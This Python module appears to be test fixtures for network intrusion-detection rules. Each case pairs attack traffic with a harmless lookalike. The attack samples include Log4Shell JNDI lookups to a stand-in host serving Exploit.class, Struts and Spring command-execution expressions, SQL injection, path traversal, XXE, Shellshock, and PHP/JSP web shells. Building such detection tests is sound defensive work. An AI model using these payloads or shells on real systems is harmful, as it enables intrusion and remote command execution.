# SPDX-License-Identifier: Apache-2.0
"""Web themes: scanners, Java frameworks, injection, products, web shells."""
import base64

from craft import request, response
from talk import APP, INNER, OFFICE, OUTSIDE, agent, back, form_file, get, many, out, ping, post, tcp, web

S = 4200000
UID = b'uid=33(www-data) gid=33(www-data) groups=33(www-data)\n'
PASSWD = b'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n'
B64 = 'Zm9yIHRoZSBsYWJvcmF0b3J5IG9ubHk'


def q(text):
    return web(get('/list?' + text))


def basic(text):
    return web(get('/', 'Authorization: Basic ' + base64.b64encode(text.encode()).decode()))


SCAN = [
    (S + 1, agent('Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)'),
     q('q=Nmap+Scripting+Engine')),
    (S + 2, agent('sqlmap/1.7.2#stable (https://sqlmap.org)'), agent('Mozilla/5.0 (docs; sqlmap/1.7 manual reader)')),
    (S + 3, agent('Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)'), agent('Mozilla/5.0 Nikto-Fanpage/1.0')),
    (S + 4, agent('masscan/1.3 (https://github.com/robertdavidgraham/masscan)'), web(get('/', 'Referer: http://docs.example/masscan/'))),
    (S + 5, agent('Mozilla/5.0 zgrab/0.x'), agent('Mozilla/5.0 zgrab/about')),
    (S + 6, agent('Nuclei - Open-source project (github.com/projectdiscovery/nuclei)'), agent('Nuclei-Physics-Course/2.0')),
    (S + 7, agent('gobuster/3.6'), web(get('/gobuster/3.6'))),
    (S + 8, agent('DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)'), agent('Mozilla/5.0 DirBuster-report')),
    (S + 9, web(get('/acunetix_wvs_security_test')), web(get('/news/acunetix-wvs-review'))),
    (S + 10, agent('Mozilla/4.0 (Hydra)'), agent('Mozilla/4.0 (Hydra) extended client')),
    (S + 11, agent('WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)'), agent('Mozilla/5.0 (WPScan v3 reader)')),
    (S + 12, many(9, tcp('10.10.1.20', INNER, 22, back(b'SSH-2.0-OpenSSH_9.2p1\r\n'), b'SSH-2.0-libssh_0.10.6\r\n')),
     many(5, tcp('10.10.8.11', INNER, 22, back(b'SSH-2.0-OpenSSH_9.2p1\r\n'), b'SSH-2.0-libssh_0.10.6\r\n'))),
    (S + 13, web(b'GET /nice%20ports%2C/Tri%6Eity.txt%2ebak HTTP/1.0\r\n\r\n', response(code='404 Not Found')),
     web(get('/nice%20ports%2C/Trinity.txt'))),
    (S + 14, many(21, ping(b'')), many(21, ping(b'abcdefgh'))),
    (S + 15, tcp(OUTSIDE, INNER, 22, back(b'SSH-2.0-OpenSSH_9.2p1\r\n'), b'SSH-2.0-Nmap-SSH2-Hostkey\r\n'),
     tcp(OUTSIDE, INNER, 22, back(b'SSH-2.0-OpenSSH_9.2p1\r\n'), b'SSH-2.0-PuTTY_Release_0.80\r\n')),
    (S + 16, many(21, web(get('/admin'), response(b'', '401 Unauthorized', headers=('WWW-Authenticate: Basic realm="x"',)))),
     many(8, web(get('/admin'), response(b'', '401 Unauthorized', headers=('WWW-Authenticate: Basic realm="x"',))))),
    (S + 17, many(11, tcp(OUTSIDE, INNER, 21, back(b'220 ready\r\n'), b'USER a\r\n', back(b'331 password\r\n'), b'PASS anonymous@\r\n',
                          back(b'530 Login incorrect.\r\n'))),
     many(4, tcp(OUTSIDE, INNER, 21, back(b'220 ready\r\n'), b'USER a\r\n', back(b'331 password\r\n'), b'PASS anonymous@\r\n',
                 back(b'530 Login incorrect.\r\n')))),
]

LDAP_HEAD = b'0\x81\xa0\x02\x01\x02d\x81\x9a\x04\x07Exploit'
JAVA = [
    (S + 101, web(get('/', 'X-Api-Version: ${jndi:ldap://203.0.113.66:1389/a}')),
     web(get('/', 'X-Api-Version: ${jndi:java:comp/env/jdbc/pool}'))),
    (S + 102, web(get('/?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.66%2Fa%7D')), web(get('/docs?x=jndi%3Aldap+realm'))),
    (S + 103, web(get('/', 'X-Note: ${${lower:j}ndi:${lower:l}dap://203.0.113.66/a}')), web(get('/', 'X-Note: ${lower:NAME} and {upper:x}'))),
    (S + 104, web(get('/', 'X-Note: ${${::-j}${::-n}${::-d}${::-i}:ldap://203.0.113.66/a}')), web(post('/render', 'listen ${PORT:-8080} on ${HOST:-all}', kind='text/plain'))),
    (S + 105, tcp(INNER, OUTSIDE, 1389, b'0\x0c\x02\x01\x01`\x07\x02\x01\x03\x04\0\x80\0', back(
        LDAP_HEAD + b'\x04\x0djavaClassName1\x05\x04\x03foo0+\x04\x0cjavaCodeBase1\x1b\x04\x19http://203.0.113.66:8000/')),
     tcp(INNER, OUTSIDE, 1389, b'0\x0c\x02\x01\x01`\x07\x02\x01\x03\x04\0\x80\0', back(
         LDAP_HEAD + b'\x04\x0djavaClassName1\x05\x04\x03foo0+\x04\x0bdescription1\x1b\x04\x19http://203.0.113.66:8000/'))),
    (S + 106, out(request('/Exploit.class', host='203.0.113.66:8000', agent='Java/1.8.0_181')),
     out(request('/library.jar', host='203.0.113.66:8000', agent='Java/1.8.0_181'))),
    (S + 107, web(get('/', 'X-Note: ${jndi:dns://${env:HOSTNAME}.x.example/a}')), web(get('/', 'X-Note: jndi', 'X-Other: ${env:HOME}'))),
    (S + 108, tcp(INNER, OUTSIDE, 1389, b'0\x0c\x02\x01\x01`\x07\x02\x01\x03\x04\0\x80\0', back(
        LDAP_HEAD + b'\x04\x12javaSerializedData1\x12\x04\x10\xac\xed\x00\x05sr\0\0\0\0')),
     tcp(INNER, OUTSIDE, 1389, b'0\x0c\x02\x01\x01`\x07\x02\x01\x03\x04\0\x80\0', back(
         LDAP_HEAD + b'\x04\x12javaSerializedData1\x12\x04\x10' + b'empty-attribute-value'))),
    (S + 109, web(get('/?q=%24%7B%24%7Blower%3Aj%7Dndi%3A%24%7Blower%3Aldap%7D%3A%2F%2F203.0.113.66%2Fa%7D')), web(get('/?q=%24%7Blower%3Aname%7D'))),
    (S + 129, [basic(user + ':${${::-j}ndi:ldap://203.0.113.66/a}') for user in ('lab', 'labo', 'labor')],
     [basic(user + ':$pa{ss}wo$rd') for user in ('lab', 'labo', 'labor')]),
    (S + 110, web(request('/index.action', headers=("Content-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}",))),
     web(post('/wiki', 'text=@ognl.OgnlContext+explained'))),
    (S + 111, web(get('/${%28%23_memberAccess%3D%23dm%29.%28%23cmd%3D%27id%27%29}/help.action')), web(get('/docs/memberAccess#section'))),
    (S + 112, web(get('/index.action?redirect:${%23a%3D(new%20java.lang.ProcessBuilder(new%20String[]{%27id%27})).start()}')),
     web(get('/login?redirect=https://www.city.example/%23home'))),
    (S + 113, web(post('/', 'class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp')),
     web(post('/', 'text=the class module and its classLoader'))),
    (S + 114, web(post('/functionRouter', 'x', 'spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec("id")')),
     web(post('/functionRouter', 'x', 'spring.cloud.function.routing-expression: headers.kind'))),
    (S + 115, web(post('/actuator/gateway/routes/x', '{"filters":[{"name":"AddResponseHeader","args":{"value":"#{T(java.lang.Runtime).getRuntime().exec(\'id\')}"}}]}', kind='application/json')),
     web(post('/actuator/gateway/routes/x', '{"filters":[{"name":"StripPrefix","args":{"parts":"1"}}]}', kind='application/json'))),
    (S + 118, web(get('/', 'Cookie: rememberMe=' + B64 * 44)), web(get('/', 'Cookie: rememberMe=' + B64 * 12))),
    (S + 119, many(11, web(get('/', 'Cookie: rememberMe=' + B64 * 4), response(headers=('Set-Cookie: rememberMe=deleteMe; Path=/; Max-Age=0',)))),
     many(3, web(get('/', 'Cookie: rememberMe=' + B64 * 4), response(headers=('Set-Cookie: rememberMe=deleteMe; Path=/; Max-Age=0',))))),
    (S + 120, web(post('/api', '{"a":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://203.0.113.66/x","autoCommit":true}}', kind='application/json')),
     web(post('/api', '{"@type":"Person","name":"x","homepage":"https://www.city.example/"}', kind='application/json'))),
    (S + 121, web(post('/wls-wsat/CoordinatorPortType', '<soapenv:Header><java><void class="java.beans.XMLDecoder"/></java></soapenv:Header>', kind='text/xml')),
     web(post('/wls-wsat/CoordinatorPortType', '<soapenv:Header><wsat:Coordinator/></soapenv:Header>', kind='text/xml'))),
    (S + 122, web(get('/console/css/%252e%252e%252fconsole.portal?_nfpb=true')), web(get('/console/console.portal?_nfpb=true'))),
    (S + 123, tcp(OUTSIDE, APP, 7001, b't3 12.2.1\nAS:255\nHL:19\nMS:10000000\n\n', back(b'HELO:12.2.1.3.0.false\nAS:2048\nHL:19\n\n')),
     tcp(INNER, APP, 7001, b't3 12.2.1\nAS:255\nHL:19\nMS:10000000\n\n', back(b'HELO:12.2.1.3.0.false\nAS:2048\nHL:19\n\n'))),
    (S + 124, tcp(INNER, APP, 7001, b'\0\0\1\0\1e\1\xff\xff weblogic.rjvm.ClassTableEntry \xfe\x01\x00\x00\xac\xed\x00\x05sr'),
     tcp(INNER, APP, 7001, b'\0\0\1\0\1e\1\xff\xff weblogic.rjvm.ClassTableEntry \xfe\x01\x00\x00 nothing serialised')),
    (S + 125, web(request('/help.jsp/', 'PUT', body=b'text')), web(request('/help.jsp.txt', 'PUT', body=b'text'))),
    (S + 126, web(get('/%24%7B%28%23a%3D%40com.opensymphony.webwork.ServletActionContext%40getResponse%28%29%29%7D/')),
     web(get('/docs/com.opensymphony.webwork/index.html'))),
    (S + 127, web(request('/nacos/v1/auth/users?pageNo=1&pageSize=9', agent='Nacos-Server')),
     web(request('/nacos/v1/ns/instance/beat', agent='Nacos-Server'), client=INNER)),
    (S + 128, web(get('/actuator/heapdump')), web(get('/actuator/heapdump'), client=INNER)),
]

INJECT = [
    (S + 130, q('id=1%27%20union%20all%20select%201,user(),3--'), q('q=union+members+select+a+committee')),
    (S + 131, q('id=1%20and%20sleep(5)'), q('q=how+to+sleep(well)')),
    (S + 132, q('id=1%20and%20extractvalue(1,concat(0x7e,user()))'), q('f=concat(first,last)&g=updatexml')),
    (S + 133, q('id=1%20from%20information_schema.tables'), q('q=information_schema+manual')),
    (S + 134, web(post('/q', 'id=1;exec master..xp_cmdshell \'whoami\'')), web(post('/q', 'text=how to switch xp_cmdshell off'))),
    (S + 135, q('id=1%20into%20outfile%20%27/var/www/html/x.php%27'), q('q=put+it+into+outfile+of+the+job')),
    (S + 136, q('user=a%27%20or%20%271%27=%271'), q("q=O'Brien+or+1+other")),
    (S + 137, web(get("/l?id=1;waitfor%20delay%20'0:0:5'")), web(get('/l?q=waitfor%20delay%20statement'))),
    (S + 138, web(post('/q', 'id=1%27+union+select+1,2,3--+&x=1')), web(post('/q', 'text=the+union+may+select+its+own+chair'))),
    (S + 140, web(get('/down?f=../../../../etc/passwd'), response(b'', '404 Not Found')), web(get('/down?f=../img/etc-passwd-explained.png'))),
    (S + 141, web(get('/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh'), response(b'', '403 Forbidden')), web(get('/cgi-bin/a%2eb/.%2e/x'))),
    (S + 142, web(get('/down?f=../../../../etc/passwd'), response(PASSWD)), web(get('/down?f=../../../../etc/passwd'.replace('etc/passwd', 'style.css')), response(b'<code>root:x:0:0:root:/root:/bin/bash</code>'))),
    (S + 143, web(post('/run', 'x=1'), response(PASSWD)), web(get('/tutorial'), response(b'<code>root:x:0:0:root:/root:/bin/bash</code><p>means</p>'))),
    (S + 145, web(post('/xml', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]><r>&e;</r>', kind='text/xml')),
     web(post('/xml', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e "file:///etc/hostname">]><r>&e;</r>', kind='text/xml'))),
    (S + 146, web(post('/xml', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % e SYSTEM "http://203.0.113.66/x.dtd"> %e;]><r/>', kind='text/xml')),
     web(post('/xml', '<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://www.city.example/r.dtd"><r/>', kind='text/xml'))),
    (S + 150, q('host=127.0.0.1;id'), q('tags=a;cats;b|idea')),
    (S + 151, web(request('/cgi-bin/status', agent='() { :; }; /bin/echo laboratory')), web(post('/code', 'function f() { return 1; };'))),
    (S + 190, web(get('/cgi-bin/status', 'X-A: () { :; }; /usr/bin/id'), response(UID, kind='text/plain')),
     [web(get('/cgi-bin/help'), response(UID, kind='text/plain')), web(get('/l?id=1'), response(b'<a href="?uid=33&gid=4">'))]),
]

OMI = '<p:ExecuteShellCommand_INPUT xmlns:p="http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/SCX_OperatingSystem"><p:command>id</p:command></p:ExecuteShellCommand_INPUT>'

PRODUCT = [
    (S + 116, web(get('/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=1')),
     web(get('/index.php?s=/Index/docs&q=invokefunction'))),
    (S + 117, web(post('/index.php?s=captcha', '_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id')),
     web(post('/index.php?s=captcha', '_method=PUT&filter[]=title'))),
    (S + 152, web(post('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '<?php echo 1;')), web(get('/docs/phpunit/eval-stdin.php.html'))),
    (S + 153, web(get('/.git/config')), web(get('/static/app.git/README'))),
    (S + 154, web(get('/.env')), web(get('/docs/.environment'))),
    (S + 158, web(post('/mgmt/tm/util/bash', '{"command":"run","utilCmdArgs":"-c id"}', kind='application/json')), web(get('/mgmt/tm/util/bash'))),
    (S + 159, web(get('/autodiscover/autodiscover.json?a@city.example/mapi/nspi/?&Email=autodiscover/autodiscover.json')),
     web(get('/autodiscover/autodiscover.json?Email=a%40city.example&Protocol=ActiveSync'))),
    (S + 160, web(post('/wsman', OMI, kind='application/soap+xml'), port=5985),
     web(post('/wsman', OMI, 'Authorization: Negotiate bGFiOmxhYg==', kind='application/soap+xml'), client=INNER, port=5985)),
    (S + 161, web(post('/seeyon/htmlofficeservlet', 'DBSTEP V3.0     355             0               666             DBSTEP=OKMLlKlV')),
     web(post('/seeyon/htmlofficeservlet', 'OPTION=LOADFILE'))),
    (S + 162, web(post('/weaver/bsh.servlet.BshServlet', 'bsh.script=exec(%22whoami%22);&bsh.servlet.output=raw')), web(get('/weaver/bsh.servlet.BshServlet'))),
    (S + 163, web(post('/ispirit/im/upload.php', 'P=123')), web(get('/ispirit/im/upload.php'))),
    (S + 164, web(post('/servlet/FileReceiveServlet', 'x')), web(get('/servlet/FileReceiveServlet'))),
    (S + 165, web(request('/SDK/webLanguage', 'PUT', body=b'<?xml version="1.0"?><language>$(id>webLib/x)</language>')),
     web(request('/SDK/webLanguage', 'PUT', body=b'<?xml version="1.0"?><language>zh</language>'))),
    (S + 166, web(get('/Security/users?auth=YWRtaW46MTEK')), web(get('/Security/users?auth=dXNlcjpwYXNz'))),
    (S + 167, web(get('/index.php?a=eval($_GET[1])')), web(get('/index.php?q=evaluation(2026)'))),
]

JSP = '<%@ page import="java.io.*" %>\n<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>'
SHAPE = ('POST %s HTTP/1.1\r\nContent-type: application/x-www-form-urlencoded\r\nUser-Agent: Mozilla/5.0\r\n'
         'Host: www.city.example\r\nContent-Length: %d\r\n\r\n%s')


def shape(target, body):
    return web((SHAPE % (target, len(body), body)).encode())


def godzilla(cookie, answer):
    return web(post('/a/b.jsp', 'pass=' + B64 * 3, 'Cookie: JSESSIONID=1F2E' + cookie), response(answer.encode()))


SHELL = [
    (S + 201, web(form_file('a.php', 'text/plain', '<?php @eval($_POST["x"]); ?>')), web(form_file('a.txt', 'text/plain', '<?php echo "manual"; ?>'))),
    (S + 202, web(form_file('a.jsp', 'text/plain', JSP)), web(form_file('a.jsp.md', 'text/plain', JSP))),
    (S + 203, web(form_file('a.aspx', 'image/png', 'GIF89a text')), web(form_file('a.aspx.png', 'image/png', 'PNG text'))),
    (S + 204, web(post('/i/a.php', 'pass=@eval(base64_decode($_POST[z0]));&z0=ZWNobyAx')), web(post('/forum', 'text=why+is+eval(base64_decode(x))+bad'))),
    (S + 205, web(post('/i/a.php', 'z0=QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIpO0BzZXRfdGltZV9saW1pdCgwKTs')), web(post('/i/a.php', 'note=about+QGluaV9zZXQo'))),
    (S + 206, web(request('/i/a.php', 'POST', body=b'x=1', agent='antSword/v2.1')), web(request('/i/a.php', agent='Mozilla/5.0 antSword/fan'))),
    (S + 207, web(post('/i/a.php', 'ant=%40ini_set(%22display_errors%22%2C%20%220%22)%3B%40set_time_limit(0)%3B')),
     web(post('/forum', 'text=set+display_errors+with+ini_set+or+set_time_limit'))),
    (S + 208, shape('/i/a.php', '3Mn1yNMtoZViV5wotQHPJtwwj0F4b2lyToNK'), shape('/i/a.php', 'text=3Mn1yNMtoZViV5wotQHPJtwwj0F4b2lyToNK')),
    (S + 209, shape('/i/a.jsp', B64 * 12), [shape('/i/a.jsp', 'doc=' + B64 * 12), shape('/api/sign', B64 * 12)]),
    (S + 210, web(post('/upload/a.jsp', 'cmd=id'), response(UID, kind='text/plain')),
     web(post('/run/a.jsp', 'cmd=id'), response(UID, kind='text/plain'))),
    (S + 211, web(post('/uploads/a.php', 'cmd=whoami')), [web(get('/service/index.jsp?cmd=list')), web(get('/uploads/photo.jpg?cmd=resize'))]),
    (S + 213, web(post('/tunnel.jsp?cmd=connect', 'x', 'X-CMD: CONNECT', 'X-TARGET: 10.20.5.20', 'X-PORT: 22')), web(post('/api', 'x', 'X-CMD: LIST', 'X-TARGET: printers'))),
    (S + 215, godzilla(';', '1A2B3C4D5E6F7081' + B64 + '=' + '90A1B2C3D4E5F607'),
     [godzilla('', '1A2B3C4D5E6F7081' + B64 + '=' + '90A1B2C3D4E5F607'), godzilla(';', '<html>' + B64 + '</html>')]),
]

THEMES = {'scan': SCAN, 'web-java': JAVA, 'web-inject': INJECT, 'web-app': PRODUCT, 'webshell': SHELL}
